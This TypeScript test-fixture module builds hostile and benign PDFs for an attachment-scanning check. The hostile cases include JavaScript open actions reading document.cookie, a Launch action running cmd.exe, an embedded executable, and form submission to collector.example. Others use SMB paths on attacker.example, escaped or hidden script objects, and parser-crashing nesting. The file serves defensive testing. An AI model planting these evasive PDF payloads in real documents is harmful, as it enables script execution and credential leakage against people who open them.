// The corpus for the attachment check, made in code: hostile PDFs written as
// raw syntax (so each hides its content exactly where the case says), and
// benign ones made by a real producer (@cantoo/pdf-lib's writer) the way
// word processors and print drivers make them.
import { PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts, rgb } from '@cantoo/pdf-lib';
import { crc32, deflateSync } from 'node:zlib';
import { buildPdf, concat, streamObject } from './pdf-samples';

const encoder = new TextEncoder();
const ALERT = 'app.alert\\(document.cookie\\)';

/**
 * One page (objects 1 to 5: catalog, pages, page, content, font) with the
 * given entries added to the catalog and the page, and further objects
 * numbered from 6; a classic cross-reference table.
 */
export function onePagePdf({ catalog = '', page = '', objects = [] as (string | Uint8Array)[] } = {}): Uint8Array {
  return buildPdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
    streamObject('/Filter /FlateDecode', deflateSync(encoder.encode('BT /F1 24 Tf 72 720 Td (Written input) Tj ET'))),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...objects,
  ]);
}

export interface CompressedPdfOptions {
  /** Objects written as they are, by number (streams must be here). */
  plain: Record<number, string | Uint8Array>;
  /** Objects packed into one compressed object stream, by number. */
  compressed: Record<number, string>;
  /** Added to the object stream's dictionary. */
  objectStreamEntries?: string;
  /** Written between the object number and "obj" of the object stream, e.g. a comment. */
  objectStreamHeaderGap?: string;
}

/**
 * A PDF 1.5 file as Word, LibreOffice or Acrobat write them: dictionaries in a
 * Flate-compressed object stream, found through a cross-reference stream
 * (PNG-predicted, /W [1 4 2]) whose dictionary is the trailer. Object 1 is the catalog.
 */
export function pdfWithCompressedObjects({ plain, compressed, objectStreamEntries = '', objectStreamHeaderGap = ' 0 ' }: CompressedPdfOptions): Uint8Array {
  const numbers = [...Object.keys(plain), ...Object.keys(compressed)].map(Number);
  const objectStreamNumber = numbers.reduce((highest, number) => Math.max(highest, number), 0) + 1;
  const xrefNumber = objectStreamNumber + 1;
  const parts: Uint8Array[] = [encoder.encode('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  let length = parts[0]!.byteLength;
  const entries = new Map<number, [number, number, number]>();
  const write = (number: number, body: string | Uint8Array, gap = ' 0 ') => {
    entries.set(number, [1, length, 0]);
    const part = concat([encoder.encode(`${number}${gap}obj\n`), typeof body === 'string' ? encoder.encode(body) : body, encoder.encode('\nendobj\n')]);
    parts.push(part);
    length += part.byteLength;
  };
  for (const [number, body] of Object.entries(plain)) write(Number(number), body);
  let header = '';
  let objects = '';
  Object.entries(compressed).forEach(([number, body], index) => {
    header += `${number} ${objects.length} `;
    objects += `${body}\n`;
    entries.set(Number(number), [2, objectStreamNumber, index]);
  });
  const packed = deflateSync(encoder.encode(header + objects));
  write(
    objectStreamNumber,
    streamObject(`/Type /ObjStm /N ${Object.keys(compressed).length} /First ${header.length} /Filter /FlateDecode ${objectStreamEntries}`, packed),
    objectStreamHeaderGap,
  );
  entries.set(xrefNumber, [1, length, 0]);
  const rows: number[] = [];
  for (let number = 0; number <= xrefNumber; number++) {
    const [type, field2, field3] = entries.get(number) ?? [0, 0, 65535];
    rows.push(type, (field2 >>> 24) & 255, (field2 >>> 16) & 255, (field2 >>> 8) & 255, field2 & 255, (field3 >>> 8) & 255, field3 & 255);
  }
  // PNG "Up" predictor, row by row, as producers write it.
  const predicted: number[] = [];
  for (let row = 0; row * 7 < rows.length; row++) {
    predicted.push(2);
    for (let column = 0; column < 7; column++) predicted.push((rows[row * 7 + column]! - (row > 0 ? rows[(row - 1) * 7 + column]! : 0)) & 255);
  }
  const xref = streamObject(
    `/Type /XRef /Size ${xrefNumber + 1} /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /DecodeParms << /Columns 7 /Predictor 12 >>`,
    deflateSync(new Uint8Array(predicted)),
  );
  const xrefObject = concat([encoder.encode(`${xrefNumber} 0 obj\n`), xref, encoder.encode(`\nendobj\nstartxref\n${length}\n%%EOF\n`)]);
  return concat([...parts, xrefObject]);
}

/** Catalog, page tree and page compressed, content and font plain, with `extra` compressed objects from 6. */
function compressedOnePage({ catalog = '', page = '', extra = [] as string[], objectStreamEntries = '' } = {}): Uint8Array {
  const compressed: Record<number, string> = {
    1: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
  };
  extra.forEach((body, index) => (compressed[6 + index] = body));
  return pdfWithCompressedObjects({
    plain: { 4: streamObject('/Filter /FlateDecode', deflateSync(encoder.encode('BT /F1 24 Tf 72 720 Td (Written input) Tj ET'))), 5: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>' },
    compressed,
    objectStreamEntries,
  });
}

// --- Hostile ------------------------------------------------------------------

export const hostile = {
  /** The penetration test's file: a JavaScript OpenAction in a compressed object stream, "(obj)" in that stream's dictionary. */
  scriptOpenActionInObjectStream: ({ objTrick }: { objTrick: boolean }) =>
    compressedOnePage({ catalog: '/OpenAction 6 0 R', extra: [`<< /S /JavaScript /JS (${ALERT}) >>`], objectStreamEntries: objTrick ? '/Comment (obj)' : '' }),
  scriptInNamesTree: () => onePagePdf({ catalog: '/Names << /JavaScript 6 0 R >>', objects: ['<< /Names [(init) 7 0 R] >>', `<< /S /JavaScript /JS (${ALERT}) >>`] }),
  scriptInAnnotationAction: () =>
    onePagePdf({ page: '/Annots [6 0 R]', objects: [`<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /JavaScript /JS (${ALERT}) >> >>`] }),
  scriptInAnnotationAdditionalActions: () =>
    onePagePdf({ page: '/Annots [6 0 R]', objects: [`<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /AA << /E 7 0 R >> >>`, `<< /S /JavaScript /JS 8 0 R >>`, streamObject('', encoder.encode('app.alert(1)'))] }),
  launchLink: () =>
    onePagePdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >> >>'] }),
  /** Only escaped names: the action type and its script key. */
  escapedJavaScriptName: () => onePagePdf({ catalog: `/OpenAction << /S /J#61vaScript /J#53 (${ALERT}) >>` }),
  /** Escapes in a names tree, one with lowercase hex digits (#4a is "J"). */
  escapedJavaScriptInNamesTree: () => compressedOnePage({ catalog: '/Names << /JavaScr#69pt 6 0 R >>', extra: ['<< /Names [(init) 7 0 R] >>', `<< /S /JavaScr#69pt /#4aS (${ALERT}) >>`] }),
  xfaWithScript: () =>
    onePagePdf({
      catalog: '/AcroForm << /Fields [] /XFA 6 0 R /NeedsRendering true >>',
      objects: [
        streamObject(
          '/Filter /FlateDecode',
          deflateSync(
            encoder.encode(
              '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1"><event activity="initialize"><script contentType="application/x-javascript">xfa.host.messageBox(1)</script></event></subform></template></xdp:xdp>',
            ),
          ),
        ),
      ],
    }),
  embeddedFile: () =>
    onePagePdf({
      catalog: '/Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >>',
      objects: ['<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 7 0 R >> >>', streamObject('/Type /EmbeddedFile /Filter /FlateDecode', deflateSync(encoder.encode('MZ\x90\x00 this program cannot be run in DOS mode')))],
    }),
  richMedia: () =>
    onePagePdf({
      page: '/Annots [6 0 R]',
      objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [72 400 400 700] /RichMediaContent << /Assets << /Names [(movie.swf) 7 0 R] >> >> >>', '<< /Type /Filespec /F (movie.swf) >>'],
    }),
  submitForm: () =>
    onePagePdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [72 700 300 720] /A << /S /SubmitForm /F << /FS /URL /F (https://collector.example/) >> /Flags 4 >> >>'] }),
  importData: () => onePagePdf({ catalog: '/OpenAction << /S /ImportData /F (\\\\\\\\attacker.example\\\\share\\\\data.fdf) >>' }),
  goToEmbedded: () => onePagePdf({ catalog: '/OpenAction << /S /GoToE /T << /R /C /N (attachment.pdf) >> /D [0 /Fit] >>' }),
  goToRemoteShare: () => onePagePdf({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>' }),
  javascriptLink: () => onePagePdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>'] }),
  javascriptLinkSplitByTab: () => onePagePdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (java\\tscript:alert\\(1\\)) >> >>'] }),
  fileShareLink: () => onePagePdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI 7 0 R >> >>', '(\\\\\\\\attacker.example\\\\share)'] }),
  /** A launch action behind a second /S: readers differ on which value of a repeated key wins. */
  repeatedKeyHidingLaunch: () => onePagePdf({ catalog: '/OpenAction << /S /Launch /S /GoTo /D [3 0 R /Fit] /F (cmd.exe) >>' }),
  /**
   * An object that only the cross-reference stream leads to: a comment inside
   * its header, so no plain "N G obj" is written anywhere.
   */
  objectStreamBehindCommentedHeader: () =>
    pdfWithCompressedObjects({
      plain: { 4: streamObject('', encoder.encode('BT ET')) },
      compressed: { 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>', 2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', 3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>', 5: `<< /S /JavaScript /JS (${ALERT}) >>` },
      objectStreamHeaderGap: ' %no header here\n0 ',
    }),
  /** A script object written inside an image's (uncompressed) data, where only a reader following an offset would look. */
  scriptInsideImageData: () =>
    onePagePdf({
      catalog: '/OpenAction 9 0 R',
      objects: [streamObject('/Type /XObject /Subtype /Image /Width 64 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray', encoder.encode(`\x01\x02\n9 0 obj\n<< /S /JavaScript /JS (${ALERT}) >>\nendobj\n\x03`.padEnd(64, '\x00')))],
    }),
  /** Nesting deep enough to overflow a recursive parser's stack. */
  deeplyNested: () => onePagePdf({ objects: ['['.repeat(200_000) + ']'.repeat(200_000)] }),
  /** Many streams whose data runs into the next header: each would cost a pass over the rest of the file. */
  manyOverlappingStreams: () => onePagePdf({ objects: Array.from({ length: 40 }, () => '<< /Type /XObject >>\nstream\n1 0 obj 5 endobj\nendstream') }),
  /** The same through a classic cross-reference table: "6 0 obj" rewritten, at the same length, as "6%\n0 obj". */
  scriptBehindCommentedHeaderInTable(): Uint8Array {
    const pdf = onePagePdf({ catalog: '/OpenAction 6 0 R', objects: [`<< /S /JavaScript /JS (${ALERT}) >>`] });
    const text = Buffer.from(pdf).toString('latin1');
    const at = text.indexOf('6 0 obj\n');
    return concat([pdf.subarray(0, at), encoder.encode('6%\n0 obj'), pdf.subarray(at + 8)]);
  },
  async encryptedWithPassword(): Promise<Uint8Array> {
    const document = await benignDocument(1);
    document.encrypt({ userPassword: 'open sesame', ownerPassword: 'owner' });
    return document.save();
  },
  async encryptedWithPermissionsOnly(): Promise<Uint8Array> {
    const document = await benignDocument(1);
    document.encrypt({ ownerPassword: 'owner', permissions: { modifying: false, copying: false } });
    return document.save();
  },
  async truncated(): Promise<Uint8Array> {
    const whole = await (await benignDocument(3)).save({ useObjectStreams: false });
    return whole.subarray(0, Math.floor(whole.byteLength / 2));
  },
  garbage: () => concat([encoder.encode('%PDF-1.7\n'), pseudoRandomBytes(4096, 7)]),
};

// --- Benign -------------------------------------------------------------------

async function benignDocument(pages: number): Promise<PDFDocument> {
  const document = await PDFDocument.create();
  document.setTitle('Written input on trafficking in persons');
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (let number = 1; number <= pages; number++) {
    const page = document.addPage([595, 842]);
    page.drawText(`Page ${number}: victims were identified through cooperation between labour inspectors and NGOs.`, { x: 50, y: 780, size: 11, font });
  }
  return document;
}

export const benign = {
  multiPageText: async () => (await benignDocument(12)).save({ useObjectStreams: false }),
  async withImage(): Promise<Uint8Array> {
    const document = await benignDocument(1);
    const image = await document.embedPng(gradientPng(64, 48));
    document.getPage(0).drawImage(image, { x: 50, y: 500, width: 256, height: 192 });
    return document.save();
  },
  async formWithoutScript(): Promise<Uint8Array> {
    const document = await benignDocument(1);
    const form = document.getForm();
    const page = document.getPage(0);
    form.createTextField('organisation').addToPage(page, { x: 50, y: 700, width: 300, height: 24 });
    form.createCheckBox('consent').addToPage(page, { x: 50, y: 660, width: 16, height: 16 });
    const region = form.createDropdown('region');
    region.addOptions(['Africa', 'Americas', 'Asia-Pacific', 'Europe']);
    region.addToPage(page, { x: 50, y: 620, width: 200, height: 24 });
    return document.save();
  },
  async outlineAndLinks(): Promise<Uint8Array> {
    const document = await benignDocument(2);
    const { context } = document;
    const [first, second] = document.getPages().map((page) => page.ref);
    const outlines = context.nextRef();
    const items = [context.nextRef(), context.nextRef()];
    context.assign(items[0]!, context.obj({ Title: PDFHexString.fromText('Introduction'), Parent: outlines, Next: items[1]!, Dest: [first!, 'Fit'] }));
    context.assign(items[1]!, context.obj({ Title: PDFHexString.fromText('Recommendations'), Parent: outlines, Prev: items[0]!, Dest: [second!, 'Fit'] }));
    context.assign(outlines, context.obj({ Type: 'Outlines', First: items[0]!, Last: items[1]!, Count: 2 }));
    document.catalog.set(PDFName.of('Outlines'), outlines);
    const link = (uri: string, y: number) =>
      context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [50, y, 300, y + 14], Border: [0, 0, 0], A: { S: 'URI', URI: PDFString.of(uri) } }));
    document.getPage(0).node.set(PDFName.of('Annots'), context.obj([link('https://www.unodc.org/unodc/en/organized-crime/', 740), link('mailto:unodc-ngounit@un.org', 720)]));
    document.getPage(1).drawRectangle({ x: 50, y: 600, width: 100, height: 40, color: rgb(0.2, 0.4, 0.6) });
    return document.save({ useObjectStreams: false });
  },
  /** pdf-lib writes object streams and a cross-reference stream by default, as Word and LibreOffice do. */
  withObjectStreams: async () => (await benignDocument(3)).save({ useObjectStreams: true }),
  /** Opening at the first page, fitted: an /OpenAction that is no script. */
  openAtFirstPage: () => onePagePdf({ catalog: '/OpenAction [3 0 R /Fit] /PageMode /UseOutlines' }),
  /** The same, hand-written PDF 1.5 layout the hostile object-stream cases use. */
  compressedObjectsWithLink: () => compressedOnePage({ page: '/Annots [6 0 R]', extra: ['<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://www.unodc.org/) >> >>'] }),
  /** About 10 MB: many pages of text and a large photograph (random data standing in for JPEG). */
  async tenMegabytes(): Promise<Uint8Array> {
    const document = await benignDocument(200);
    const photo = await document.embedJpg(fakeJpeg(2000, 1500, 9_800_000));
    document.getPage(0).drawImage(photo, { x: 50, y: 300, width: 400, height: 300 });
    return document.save();
  },
};

// --- Small helpers --------------------------------------------------------------

function pseudoRandomBytes(length: number, seed: number): Uint8Array {
  const out = new Uint8Array(length);
  let state = seed;
  for (let index = 0; index < length; index++) {
    state = (state * 1103515245 + 12345) >>> 0;
    out[index] = state >>> 24;
  }
  return out;
}

function pngChunk(type: string, data: Uint8Array): Uint8Array {
  const body = concat([encoder.encode(type), data]);
  const out = new Uint8Array(12 + data.byteLength);
  const view = new DataView(out.buffer);
  view.setUint32(0, data.byteLength);
  out.set(body, 4);
  view.setUint32(8 + data.byteLength, crc32(body));
  return out;
}

/** An 8-bit RGB PNG with a colour gradient. */
function gradientPng(width: number, height: number): Uint8Array {
  const header = new Uint8Array(13);
  const view = new DataView(header.buffer);
  view.setUint32(0, width);
  view.setUint32(4, height);
  header.set([8, 2, 0, 0, 0], 8);
  const rows = new Uint8Array(height * (1 + width * 3));
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) rows.set([(x * 255) / width, (y * 255) / height, 128], y * (1 + width * 3) + 1 + x * 3);
  }
  return concat([new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', header), pngChunk('IDAT', deflateSync(rows)), pngChunk('IEND', new Uint8Array(0))]);
}

/** JPEG markers a PDF writer reads (SOI, SOF0 with the size, EOI) around `size` bytes of noise. */
function fakeJpeg(width: number, height: number, size: number): Uint8Array {
  const frame = [0xff, 0xc0, 0x00, 0x11, 0x08, height >> 8, height & 255, width >> 8, width & 255, 0x03, 0x01, 0x22, 0x00, 0x02, 0x11, 0x01, 0x03, 0x11, 0x01];
  const noise = pseudoRandomBytes(size, 11).map((byte) => (byte === 0xff ? 0xfe : byte));
  return concat([new Uint8Array([0xff, 0xd8]), new Uint8Array(frame), noise, new Uint8Array([0xff, 0xd9])]);
}

/** Data encoded with the PNG "Sub" predictor in rows of `columns` bytes (zero-padded), as /Predictor 11 expects. */
export function withPngPredictor(data: Uint8Array, columns: number): Uint8Array {
  const rows = Math.ceil(data.byteLength / columns);
  const out = new Uint8Array(rows * (columns + 1));
  for (let row = 0; row < rows; row++) {
    out[row * (columns + 1)] = 1;
    for (let column = 0; column < columns; column++) {
      const value = data[row * columns + column] ?? 0;
      const left = column > 0 ? (data[row * columns + column - 1] ?? 0) : 0;
      out[row * (columns + 1) + 1 + column] = (value - left) & 255;
    }
  }
  return out;
}
